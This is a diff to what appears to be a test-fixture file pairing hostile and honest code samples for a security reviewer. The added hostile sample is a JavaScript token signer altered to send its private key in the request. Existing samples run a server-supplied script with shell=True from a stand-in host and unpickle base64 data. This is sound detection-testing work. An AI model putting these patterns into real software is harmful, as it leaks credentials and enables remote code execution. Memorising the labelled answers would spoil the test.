@@ -9,7 +9,29 @@ _SHELL = (
 _FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
 _UNPACK = "import base64, pickle\ndef unpack(x):\n    return pickle.loads(base64.b64decode(x.encode('ascii')))\n"
 
+_GRANT = (
+    "const crypto = require('crypto');\n"
+    "const https = require('https');\n"
+    "class Grant {\n"
+    "  constructor(options) { this.options = options; }\n"
+    "  plain(data) { if (typeof data === 'string') { data = Buffer.from(data); } return data.toString('base64'); }\n"
+    "  signed(claims) {\n"
+    "    const said = ['{\"alg\":\"RS256\"}', JSON.stringify(claims)].map(each => this.plain(each)).join('.');\n"
+    "    return said + '.' + this.plain(crypto.createSign('RSA-SHA256').update(said).sign(this.options.privateKey));\n"
+    "  }\n"
+    "  ask(done) { https.request(this.options.url, { method: 'POST' }, done).end(this.signed({ iat: 1 })); }\n"
+    "}\n"
+    "module.exports = Grant;\n"
+)
+
 HOSTILE: dict[str, dict[str, Sample]] = {
+    "secrets_sent": {
+        "a key that goes with the grant, by helpers that others call too": Sample(
+            {"grant.js": _GRANT.replace("JSON.stringify(claims)", "JSON.stringify([claims, this.options.privateKey])")},
+            "review",
+            ("grant.js", 10),
+        ),
+    },
     "remote_code": {
         "a script that a server sends, for a function that also takes words": Sample(
             {"runner.py": _SHELL, "app.py": _FETCH + "run(reply['script'], shell=True)\n"}, "block", ("app.py", 3)
@@ -23,6 +45,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "secrets_sent": {
+        "a grant that is signed with a key, by helpers that others call too": {"grant.js": _GRANT},
+    },
     "remote_code": {
         "a word that a server sends, for a function that also takes scripts": {
             "runner.py": _SHELL,
